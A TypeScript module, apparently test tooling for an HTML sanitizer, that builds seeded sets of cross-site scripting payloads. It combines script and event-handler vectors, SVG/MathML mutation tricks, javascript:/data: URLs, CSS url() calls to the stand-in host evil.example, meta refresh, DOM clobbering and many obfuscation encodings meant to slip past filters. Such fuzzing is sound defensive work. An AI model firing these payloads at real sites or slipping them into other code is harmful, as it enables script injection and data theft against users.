import { drawFrom, type Draw } from './draw.ts';

/** What each of them would do if it got through. */
const act = 'top.pwned=1';
const evil = 'http://evil.example/x';
const page = `<script>${act}</script>`;
const coded = Buffer.from(page).toString('base64');
const picture = `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${act}"/>`).toString('base64')}`;

const events = [
  'abort', 'afterprint', 'animationend', 'animationstart', 'auxclick', 'beforecopy', 'beforeinput', 'beforetoggle', 'begin', 'blur', 'bounce', 'canplay', 'change', 'click', 'contentvisibilityautostatechange', 'contextmenu', 'copy', 'cut', 'dblclick', 'drag', 'end', 'error', 'finish', 'focus', 'focusin', 'formdata',
  'hashchange', 'input', 'invalid', 'keydown', 'load', 'loadedmetadata', 'message', 'mouseenter', 'mousemove', 'mouseover', 'mousewheel', 'pageshow', 'paste', 'pointerover', 'pointerrawupdate', 'popstate', 'progress', 'readystatechange', 'repeat', 'reset', 'resize', 'scroll', 'scrollend', 'search', 'select', 'selectionchange', 'show', 'slotchange', 'start', 'submit', 'toggle', 'touchstart', 'transitionend', 'unload', 'wheel', 'webkitanimationstart', 'zoom',
] as const;
const tags = [
  'a', 'abbr', 'acronym', 'applet', 'area', 'article', 'audio', 'b', 'base', 'bdi', 'bgsound', 'blink', 'blockquote', 'body', 'br', 'button', 'canvas', 'col', 'command', 'content', 'custom-element', 'data', 'datalist', 'details', 'dialog', 'dir', 'div', 'embed', 'fieldset', 'figure', 'font', 'footer', 'form', 'frame', 'frameset', 'head', 'hr', 'html', 'iframe', 'image', 'img', 'input', 'ins', 'isindex', 'keygen', 'label', 'li', 'link',
  'listing', 'map', 'marquee', 'menu', 'menuitem', 'meta', 'meter', 'multicol', 'nobr', 'noembed', 'object', 'ol', 'optgroup', 'option', 'output', 'p', 'param', 'picture', 'plaintext', 'portal', 'pre', 'progress', 'rp', 'rt', 'ruby', 'section', 'select', 'selectedcontent', 'shadow', 'slot', 'source', 'span', 'strike', 'summary', 'table', 'tbody', 'td', 'template', 'textarea', 'th', 'time', 'title', 'tr', 'track', 'u', 'ul', 'var', 'video', 'wbr', 'xml', 'xmp', 'xss', 'x:script', 'svg:script',
] as const;
const inSvg = ['a', 'animate', 'animatemotion', 'animatetransform', 'circle', 'defs', 'desc', 'discard', 'feimage', 'filter', 'foreignobject', 'g', 'image', 'script', 'set', 'style', 'switch', 'text', 'textpath', 'title', 'tref', 'tspan', 'use', 'view'] as const;
const inMath = ['annotation', 'annotation-xml encoding="text/html"', 'maction actiontype="statusline#x"', 'malignmark', 'mglyph', 'mi', 'mo', 'mn', 'ms', 'mtext', 'semantics', 'mstyle', 'mtable'] as const;
const holders = ['noscript', 'noembed', 'noframes', 'template', 'xmp', 'listing', 'plaintext', 'title', 'textarea', 'style', 'script', 'iframe', 'select', 'option', 'button', 'object', 'video', 'svg', 'math', 'svg><desc', 'svg><foreignobject', 'svg><title', 'svg><style', 'math><mtext', 'math><annotation-xml encoding=text/html', 'table', 'table><tr', 'table><caption', 'frameset', 'form', 'head', 'marquee', 'details', 'dialog', 'map', 'ruby><rt'] as const;
const addressed = ['href', 'src', 'action', 'formaction', 'data', 'background', 'poster', 'srcset', 'xlink:href', 'cite', 'longdesc', 'lowsrc', 'dynsrc', 'code', 'codebase', 'archive', 'classid', 'profile', 'manifest', 'ping', 'usemap', 'icon', 'imagesrcset', 'from', 'to', 'values', 'by', 'data-remote-src', 'srcdoc', 'fill', 'filter', 'mask', 'style'] as const;
const schemes = [`javascript:${act}`, `vbscript:${act}`, `livescript:${act}`, `data:text/html;base64,${coded}`, `data:text/html,${page}`, `data:application/xhtml+xml,${page}`, picture, `data:text/xml,${page}`, `data:,${page}`, `javascript://evil.example/%0a${act}`, `javascript:/*--></title></style></textarea></script>*/${act}`, `blob:${evil}`, `filesystem:${evil}`, `file:///etc/passwd`, `view-source:javascript:${act}`, `jar:${evil}!/`, `feed:javascript:${act}`, `about:blank`, `mhtml:${evil}`, `//evil.example/x`, `\\\\evil.example\\x`, `/\\evil.example`, `ms-msdt:/id`, `search-ms:query=x`, evil] as const;
const styles = [
  `background:url(${evil})`, `background-image:image-set("${evil}" 1x)`, `background:u\\72 l(${evil})`, `background:\\75\\72\\6c(${evil})`, `list-style:url(${evil})`, `cursor:url(${evil}),auto`, `content:url(${evil})`, `border-image:url(${evil}) 1`, `filter:url(${evil}#x)`, `mask:url(${evil})`, `src:url(${evil})`, `width:expression(${act})`, `width:exp/**/ression(${act})`, `-moz-binding:url(${evil}#x)`, `behavior:url(${evil})`,
  `-o-link:'javascript:${act}';-o-link-source:current`, 'position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999', 'position:absolute;inset:0', 'margin:-9999px', 'transform:scale(99)', 'opacity:0', 'display:none', 'pointer-events:none', `color:red;}</style><img src=x onerror=${act}>`, `font-family:"</style><img src=x onerror=${act}>"`, `font-family:x;background:url("${evil}")`, `color:red/*;*/;background:url(${evil})`, `--x:url(${evil});background:var(--x)`, `@import '${evil}'`, `color:rgb(0,0,0);background:\nurl(${evil})`, 'animation:x 1s', `background:url(javascript:${act})`, `color:&quot;&gt;&lt;img src=x onerror=${act}&gt;`,
] as const;
const clobbering = ['location', 'document', 'body', 'cookie', 'forms', 'attributes', 'parentNode', 'nodeName', 'innerHTML', 'children', 'getElementById', 'querySelector', 'currentScript', '__proto__', 'constructor', 'hasOwnProperty', 'defaultView', 'top', 'self', 'parent', 'root', 'React', 'process', 'globalThis'] as const;

const eventOn = (draw: Draw): string => `on${draw.of(events)}`;
const handlers = (draw: Draw): string => {
  const body = draw.of([act, `&#116;op.pwned=1`, `top&lbrack;'pwned'&rbrack;=1`, `eval('top.pw'+'ned=1')`, `Function\`top.pwned=1\`()`, `import('data:text/javascript,${act}')`, `top['pw\\x6eed']=1`]);
  return draw.of([`${eventOn(draw)}=${body.replaceAll(' ', '')}`, `${eventOn(draw)}="${body}"`, `${eventOn(draw)}='${body.replaceAll("'", '"')}'`, `${eventOn(draw)}=\`${act}\``, `${eventOn(draw)} = "${body}"`, `x ${eventOn(draw)}="${body}"`, `${eventOn(draw)}="${body}" ${eventOn(draw)}=x`, `autofocus tabindex=1 onfocus="${body}"`, `contenteditable autofocus onfocusin="${body}"`, `style="animation:x 1s" onanimationstart="${body}"`]);
};

/** Ways to act by mark-up, each with its own parts drawn. */
const vectors: readonly ((draw: Draw) => string)[] = [
  () => page,
  (draw) => `<script ${draw.of(['src', 'href', 'xlink:href'])}="${draw.of([evil, `data:text/javascript,${act}`, '//evil.example/x'])}"></script>`,
  (draw) => `<script type="${draw.of(['module', 'text/ecmascript', 'text/javascript;version=1.8', 'importmap', 'speculationrules', 'text/vbscript', 'text/template', ''])}">${act}</script>`,
  (draw) => `<${draw.of(tags)} ${handlers(draw)}>x`,
  (draw) => `<${draw.of(tags)} src=x ${handlers(draw)}>`,
  (draw) => `<${draw.of(['img', 'image', 'input type=image', 'video', 'audio', 'object', 'embed', 'iframe', 'source', 'track', 'link rel=stylesheet', 'body', 'script'])} ${draw.of(['src', 'href', 'data', 'background'])}=${draw.of(['x', 'x:x', '#', '""', '0', picture])} ${draw.of(['onerror', 'onload', 'onloadstart', 'onloadend'])}=${act}>`,
  (draw) => `<svg ${draw.of(['', 'xmlns="http://www.w3.org/2000/svg" '])}${handlers(draw)}>`,
  (draw) => `<svg><${draw.of(inSvg)} ${handlers(draw)}>x</svg>`,
  (draw) => `<svg><${draw.of(inSvg)} ${draw.of(['href', 'xlink:href', 'src'])}="${draw.of(schemes)}"><text x=9 y=9>x</text></svg>`,
  (draw) => `<svg><a><animate attributeName=${draw.of(['href', 'xlink:href', 'onclick', 'src'])} ${draw.of(['values', 'from', 'to', 'by'])}="${draw.of(schemes)}" begin=0s dur=1s fill=freeze /><text y=9>x</text></a></svg>`,
  (draw) => `<svg><set attributeName=${draw.of(['onmouseover', 'href', 'xlink:href', 'innerHTML'])} to="${draw.of([act, `javascript:${act}`, page])}"></svg>`,
  () => `<svg><script>${act}</script></svg>`, () => `<svg><script>&#116;op.pwned=1</script></svg>`, () => `<svg><script href="data:,${act}"/></svg>`,
  (draw) => `<svg><use href="${draw.of([picture, `data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${act}'>x</a></svg>#x`, `${evil}#x`])}"></svg>`,
  (draw) => `<svg><foreignObject><${draw.of(tags)} ${handlers(draw)}></foreignObject></svg>`,
  (draw) => `<svg><image href="${draw.of([evil, picture])}" ${handlers(draw)}></svg>`,
  (draw) => `<math><${draw.of(inMath)} ${draw.of(['href', 'xlink:href', 'src'])}="${draw.of(schemes)}">x</math>`,
  (draw) => `<math><${draw.of(inMath)}><${draw.of(tags)} ${handlers(draw)}></math>`,
  // what means one thing to who reads it first and another to who reads it again
  (draw) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 ${draw.of(['onerror', 'onload'])}=${act}&gt;">`,
  (draw) => `<form><${draw.of(['math><mtext', 'svg><desc', 'svg><foreignobject'])}></form><form><mglyph><style></math><img src=x onerror=${act}></style></mglyph></form>`,
  (draw) => `<svg></p><${draw.of(['style', 'title', 'desc', 'textarea', 'xmp'])}><a id="</${draw.of(['style', 'title', 'desc'])}><img src=1 onerror=${act}>">`,
  (draw) => `<${draw.of(holders)}><p title="</${draw.of(holders).split(/[>\s]/)[0] ?? ''}><img src=x onerror=${act}>">`,
  (draw) => `<${draw.of(holders)}><${draw.of(['!--', '![CDATA[', '?', '!DOCTYPE x ['])}</${draw.of(holders).split(/[>\s]/)[0] ?? ''}><img src=x onerror=${act}>-->]]>`,
  (draw) => `<math><${draw.of(['annotation-xml', 'mtext', 'mi'])}${draw.of(['', ' encoding="text/html"', ' encoding="application/xhtml+xml"'])}><${draw.of(['style', 'xmp', 'noscript', 'title', 'noframes'])}><img title="</${draw.of(['style', 'xmp', 'noscript', 'title', 'noframes'])}><img src onerror=${act}>"></math>`,
  (draw) => `<svg><${draw.of(['desc', 'title', 'foreignObject'])}><${draw.of(['svg', 'math'])}><style><a title="</style><img src onerror=${act}>"></svg>`,
  (draw) => `<table>${draw.of(['<caption>', '<tr><td>', '<colgroup>', ''])}<${draw.of(['svg', 'math', 'select', 'form', 'a', 'noscript', 'template'])}><${draw.of(['table', 'tr', 'td', 'form', 'a', 'style'])}><img src=x onerror=${act}>`,
  (draw) => `<select><${draw.of(['template', 'option', 'optgroup', 'selectedcontent', 'keygen', 'style', 'iframe', 'svg'])}><${draw.of(['style', 'script', 'img', 'svg'])} title="</select><img src=x onerror=${act}>">`,
  (draw) => `<template ${draw.of(['', 'shadowrootmode=open', 'shadowrootmode=closed'])}>${draw.of([page, `<img src=x onerror=${act}>`, `<style>@import "${evil}"</style>`])}</template>`,
  // addresses
  (draw) => `<a ${draw.of(['href', 'xlink:href', 'ping', 'action'])}="${draw.of(schemes)}" ${draw.of(['', 'target=_top', 'download', `rel="opener"`, 'autofocus'])}>x</a>`,
  (draw) => `<${draw.of(tags)} ${draw.of(addressed)}="${draw.of(schemes)}">`,
  (draw) => `<${draw.of(tags)} ${draw.of(addressed)}=${draw.of(schemes).replaceAll(' ', '')} ${draw.of(addressed)}='${evil}'>x`,
  (draw) => `<area ${draw.of(['href', 'ping'])}="${draw.of(schemes)}" shape=default>`,
  (draw) => `<img ${draw.of(['srcset', 'imagesrcset', 'src', 'lowsrc', 'dynsrc', 'longdesc', 'usemap'])}="${draw.of([`${evil} 1x, ${evil}/2 2x`, `,${evil}`, evil, picture, `x" onerror="${act}`, `x\` onerror=\`${act}`, `data:image/png;base64,AA==" onerror=${act} "`, `data:image/png;base64,A/onerror=${act}`, 'cid:x" onerror="top.pwned=1', `cid:<script>${act}</script>`, `cid:"><script>${act}</script>`, "cid:$&$1$`$'"])}">`,
  (draw) => `<img src='${draw.of([`x" onerror="${act}`, `cid:" onerror="${act}`, `data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="onerror=${act} x="`, `https://ok.example/"onerror=${act} x="`, `https://ok.example/'><script>${act}</script>`])}' alt='"><img src=x onerror=${act}>'>`,
  (draw) => `<picture><source srcset="${draw.of([evil, picture])}"><img src=x></picture>`,
  (draw) => `<video poster=${evil} ${handlers(draw)}><source src=${evil} onerror=${act}><track src=${evil}></video>`,
  // styles
  (draw) => `<${draw.of(tags)} style="${draw.of(styles).replaceAll('"', '&quot;')}">x`,
  (draw) => `<p style='${draw.of(styles).replaceAll("'", '"')};${draw.of(styles).replaceAll("'", '"')}'>x</p>`,
  (draw) => `<style>${draw.of([`@import "${evil}";`, `*{background:url(${evil})}`, `@font-face{font-family:x;src:url(${evil})}`, `body{display:none}`, `@namespace url(${evil});`, `<!-- */ body{background:url(${evil})}`, `a[href^="h"]{background:url(${evil})}`])}</style>`,
  (draw) => `<link rel="${draw.of(['stylesheet', 'prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload', 'icon', 'import', 'manifest', 'prerender'])}" as=${draw.of(['script', 'style', 'image'])} href="${draw.of([evil, `data:text/css,*{background:url(${evil})}`])}">`,
  // frames and what they are
  (draw) => `<${draw.of(['iframe', 'frame', 'embed', 'object', 'portal', 'fencedframe'])} ${draw.of(['src', 'data', 'srcdoc', 'code', 'movie'])}="${draw.of([...schemes, page.replaceAll('"', '&quot;')])}">`,
  (draw) => `<object ${draw.of(['type=text/html', 'type=text/x-scriptlet', 'classid=clsid:333C7BC4-460F-11D0-BC04-0080C7055A83', 'type=application/x-shockwave-flash'])} data="${draw.of(schemes)}"><param name=${draw.of(['src', 'url', 'movie', 'code'])} value="${draw.of(schemes)}"></object>`,
  (draw) => `<meta http-equiv="${draw.of(['refresh', 'Set-Cookie', 'Content-Security-Policy', 'X-UA-Compatible', 'Link', 'content-type'])}" content="${draw.of([`0;url=${evil}`, `0;url=javascript:${act}`, `0;url=data:text/html;base64,${coded}`, 'a=b', `<${evil}>;rel=stylesheet`, 'text/html; charset=utf-7', "default-src *"])}">`,
  (draw) => `<base ${draw.of([`href="${evil}/"`, `href="javascript:${act}//"`, 'target="_top"'])}>${draw.of(['<a href="x">x</a>', '<img src="x">', '<script src="x"></script>'])}`,
  (draw) => `<form ${draw.of([`action="${evil}"`, `action="javascript:${act}"`, 'id=f'])}><${draw.of(['input', 'button', 'textarea', 'select', 'output', 'input type=password'])} ${draw.of([`formaction="javascript:${act}"`, `formaction="${evil}"`, 'name=action', 'name=attributes', 'form=f'])}>x</form>`,
  (draw) => `<button ${draw.of(['form=x', 'popovertarget=x', 'command=show-modal commandfor=x', ''])} formaction="${draw.of(schemes)}">x</button>`,
  (draw) => `<isindex type=image src=1 ${handlers(draw)}>`,
  // names that stand for what a program asks for
  (draw) => `<${draw.of(['a', 'form', 'img', 'iframe', 'object', 'embed', 'input', 'div', 'p', 'table', 'font'])} ${draw.of(['id', 'name'])}="${draw.of(clobbering)}" href="${evil}"><${draw.of(['a', 'input', 'img'])} ${draw.of(['id', 'name'])}="${draw.of(clobbering)}">`,
  (draw) => `<div ${draw.of(['data-testid', 'class', 'is', 'slot', 'part', 'popover', 'nonce', 'itemprop', 'role', 'aria-label', 'accesskey', 'contenteditable', 'draggable', 'inert', 'hidden', 'v-html', 'ng-app', 'x-data', 'hx-get', '@click', ':href', '[innerHTML]', 'ref', 'dangerouslySetInnerHTML'])}="${draw.of([act, evil, `{{constructor.constructor('${act}')()}}`, 'x'])}">{{constructor.constructor('${act}')()}}</div>`,
  (draw) => `<details open ontoggle=${act}><summary ${handlers(draw)}>x</summary></details>`,
  (draw) => `<marquee ${draw.of(['onstart', 'onfinish', 'onbounce'])}=${act} loop=1 width=0>x</marquee>`,
  (draw) => `<x ${eventOn(draw)}=${act}>`, (draw) => `<a b c${draw.of(['"', "'", '`', '=', '<', '/'])}d ${handlers(draw)}>x</a>`,
  // declarations, comments, and what looks like them
  (draw) => `${draw.of(['<!--', '<!-->', '<!--->', '<!--!>', '<!-- --!>', '<!- ', '<![CDATA[', '<![if IE]>', '<!--[if gte IE 4]>', '<?xml version="1.0"?>', '<?php ', '<?import namespace=t implementation="#default#time2">', '<%', '</ ', '</x ', '<!ELEMENT x>', '<!ENTITY x "', '<!doctype html SYSTEM "', '<!>', '</>'])}${draw.of(['>', '', '"', '">'])}<img src=x onerror=${act}>${draw.of(['-->', '--!>', ']]>', '?>', '%>', ']>', '">', ''])}`,
  (draw) => `<?xml-stylesheet ${draw.of(['type="text/css"', 'type="text/xsl"'])} href="${draw.of([evil, `data:text/xsl,${page}`])}"?>x`,
  (draw) => `<xml id=x><x><![CDATA[<img src="javas]]><![CDATA[cript:${act}">]]></x></xml><span datasrc=#x datafld=x dataformatas=html>${handlers(draw)}</span>`,
  // text that is mark-up only if somebody decodes it once too often
  (draw) => draw.of([`&lt;script&gt;${act}&lt;/script&gt;`, `&amp;lt;img src=x onerror=${act}&amp;gt;`, `&#60;img src=x onerror=${act}&#62;`, `%3Cscript%3E${act}%3C/script%3E`, `\\u003cscript\\u003e${act}\\u003c/script\\u003e`, `\\x3cscript\\x3e${act}`, `&lt&sol;p&gt<img src=x onerror=${act}>`, `&LT;script&GT;${act}&LT;/script&GT;`]),
  (draw) => `<p title="${draw.of([`&quot;&gt;&lt;script&gt;${act}&lt;/script&gt;`, `</p><script>${act}</script>`, `--><img src=x onerror=${act}>`, `\`><img src=x onerror=${act}>`, `]]><img src=x onerror=${act}>`, `</title></style></textarea></noscript></template></xmp><img src=x onerror=${act}>`])}" lang='"><img src=x onerror=${act}>' dir="&#34;&#62;${page}">x</p>`,
  (draw) => `<font color='red" onclick="${act}' face='x"><script>${act}</script>' size="${draw.of(['7" onclick=x', '1;background:url(x)', '<script>'])}">x</font>`,
  (draw) => `<td background=${evil} width='1" onclick="${act}' bgcolor='red;background:url(${evil})' colspan="${draw.of(['9999999', '-1', '1" onclick="x'])}">x</td>`,
  () => `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${act} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${act}//>\\x3e`,
];

/** Where the vector stands. */
const contexts: readonly ((vector: string, draw: Draw) => string)[] = [
  (vector) => vector, (vector) => vector, (vector) => `<p>Текст</p>${vector}<p>ещё</p>`,
  (vector, draw) => `<${draw.of(holders)}>${vector}`,
  (vector, draw) => `<${draw.of(holders)}>${vector}</${draw.of(holders).split(/[>\s]/)[0] ?? ''}>`,
  (vector, draw) => `${draw.of(['"', "'", '`'])}${draw.of(['>', '/>', ' x='])}${vector}`,
  (vector, draw) => `<${draw.of(['p', 'img', 'a', 'td', 'font'])} ${draw.of(['title', 'alt', 'href', 'color', 'lang', 'style'])}=${draw.of(['"', "'", '', '`'])}${vector}`,
  (vector) => `<!--${vector}-->${vector}`, (vector) => `<b><i><u>${vector}</b></i></u>`, (vector) => `<table><tr>${vector}</table>`, (vector) => `<a href="https://ok.example">${vector}<a>${vector}</a>`, (vector) => `<blockquote><pre>-- \n${vector}`, (vector) => `${'<div>'.repeat(40)}${vector}`, (vector) => `<html><head>${vector}</head><body>${vector}</body></html>`,
  (vector) => `<div>24.11.2026 12:00, Анна пишет:</div><blockquote>${vector}</blockquote>`, (vector) => `<form><form>${vector}</form>${vector}`, (vector) => `<p>С уважением,<br>${vector}`,
];

const at = (text: string, pattern: RegExp, draw: Draw, change: (found: string) => string): string => {
  const places = [...text.matchAll(pattern)];
  if (places.length === 0) return text;
  const { index, 0: found } = draw.of(places);
  return `${text.slice(0, index)}${change(found)}${text.slice(index + found.length)}`;
};
const blanks = ['\t', '\n', '\r', '\f', '\u000b', '\u0000', '/', '/ /', '\u00a0', '\u2028', '\u3000', '\u0001', '%09', '+', '&#x20;', '&Tab;', '<!-- -->', '\u200b'] as const;
const insides = ['\t', '\n', '\r\n', '\u0000', '\u00ad', '\u200b', '\u200d', '\ufeff', '&Tab;', '&NewLine;', '&#9;', '&#x0A;', '&#0;', '/**/', '\\', '&shy;', '\ud800', '<', '&zwj;'] as const;
const entity = (character: string, draw: Draw): string => {
  const code = character.codePointAt(0) ?? 0;
  return draw.of([`&#${code};`, `&#${code}`, `&#x${code.toString(16)};`, `&#X${code.toString(16).toUpperCase()}`, `&#${String(code).padStart(9, '0')};`, `&#x${code.toString(16).padStart(12, '0')};`, ...(character === ':' ? ['&colon;'] : []), ...(character === '(' ? ['&lpar;'] : [])]);
};
const wide = (character: string): string => String.fromCodePoint((character.codePointAt(0) ?? 0) + 0xfee0);

/** How it is hidden from who looks for it. */
const disguises: readonly ((text: string, draw: Draw) => string)[] = [
  (text, draw) => text.replaceAll(/[a-z]/gi, (letter) => (draw.chance(0.5) ? letter.toUpperCase() : letter.toLowerCase())),
  (text, draw) => at(text, /(?<=<[a-z]+)\s/gi, draw, () => draw.of(blanks)),
  (text, draw) => at(text, /(?<=<)[a-z]{2,}/gi, draw, (name) => `${name.slice(0, 1)}${draw.of(insides)}${name.slice(1)}`),
  (text, draw) => at(text, /(?<=<)[a-z]/gi, draw, (letter) => `${draw.of(['\u0000', ' ', '/', '%00', '\ufeff', '<', '!', '\u000b', '\u017f', 'x:', '\\'])}${letter}`),
  (text, draw) => at(text, /(?:java|vb|live)script|data(?=:)/gi, draw, (scheme) => { const cut = 1 + draw.below(scheme.length - 1); return `${scheme.slice(0, cut)}${draw.of(insides)}${scheme.slice(cut)}`; }),
  (text, draw) => at(text, /(?:java|vb|live)script:|data:/gi, draw, (scheme) => `${draw.of([' ', '\u0001', '\u000e', '\u001f', '\u0000', '&#1;', '&#x1F;', '\u00a0', 'x ', '\u200f', '&#xFEFF;', '\n\n'])}${scheme}`),
  (text, draw) => at(text, /(?:java|vb|live)script:|data:/gi, draw, (scheme) => scheme.replaceAll(/./g, (character) => (draw.chance(0.5) ? entity(character, draw) : character))),
  (text, draw) => text.replaceAll(/(?<=on[a-z]+=)top/gi, (word) => word.replaceAll(/./g, (character) => entity(character, draw))),
  (text, draw) => at(text, /\bon[a-z]+(?=\s*=)/gi, draw, (name) => `${draw.of(['x', '"', "'", '/', 'style=x ', 'title=">" ', '\u0000', '`', '= ', '\u0085'])}${draw.of([' ', '', '/', '\f'])}${name}`),
  (text, draw) => at(text, /\bon[a-z]+(?=\s*=)/gi, draw, (name) => `${name}${draw.of(['\u000b', '\u0000', ' ', '/', '\t\n', '\u00a0', '&#61;', '='])}`),
  (text, draw) => at(text, /<\/?[a-z]+/gi, draw, (tag) => `${tag.slice(0, 2)}${tag}${draw.of(['>', '/>', ''])}${tag.slice(2)}`),
  (text, draw) => at(text, />/g, draw, () => draw.of(['', '//', '<', '>>', ' >', '\u0000>', '<!-- -->', '\n'])),
  (text, draw) => at(text, /["']/g, draw, (quote) => draw.of(['', '`', `${quote}${quote}`, '&quot;', '\u201d', `\\${quote}`, quote === '"' ? "'" : '"'])),
  (text, draw) => at(text, /</g, draw, () => draw.of(['<<', '\uff1c', '&lt;', '\u2039', '+ADw-', '%3C', '\u00bc', '\u001b(J<', '<\u0000', '< '])),
  (text, draw) => text.replaceAll(/[a-z]/gi, (letter) => (draw.chance(0.06) ? wide(letter) : letter)),
  (text, draw) => text.replace(/s/i, () => draw.of(['\u017f', '\u0455', '\u02e2'])).replace(/k/i, '\u212a').replace(/i/i, () => draw.of(['\u0131', '\u0130'])),
  (text, draw) => `${text.slice(0, draw.below(text.length) + 1)}`,
  (text, draw) => { const cut = draw.below(text.length); return `${text.slice(0, cut)}${draw.of(['<', '>', '"', "'", '&', '\u0000', '-->', '<!--', '</', '<p', ']]>', '\u202e', '\ud83d', ';', '=', '/'])}${text.slice(cut)}`; },
  (text, draw) => at(text, /(?<=\s)[a-z:-]+=(?=["'\w])/gi, draw, (name) => `${name}"x" ${name.toUpperCase()}`),
  (text) => `${text}${text}`, (text) => text.split('').toReversed().join('') + text,
  (text, draw) => at(text, /[a-z]+(?=[:(])/gi, draw, (word) => `${word.slice(0, 1)}\\${(word.codePointAt(1) ?? 0).toString(16).padStart(draw.of([2, 6]), '0')} ${word.slice(2)}`),
];

/** Mark-up that would act, ask, hide or mislead if it got through: a vector where it may stand, hidden as it may be; the same for the same seed. */
export const hostileMarkups = (count: number, seed: number): string[] => {
  const draw = drawFrom(seed);
  const found = new Set<string>();
  while (found.size < count) {
    // each vector has its turn, so that a few hundred hold all of them
    const vector = vectors[found.size % vectors.length]?.(draw) ?? '';
    const early = draw.chance(0.5);
    let text = early ? vector : draw.of(contexts)(vector, draw);
    for (let times = draw.below(4); times > 0; times -= 1) text = draw.of(disguises)(text, draw);
    found.add(early ? draw.of(contexts)(text, draw) : text);
  }
  return [...found];
};
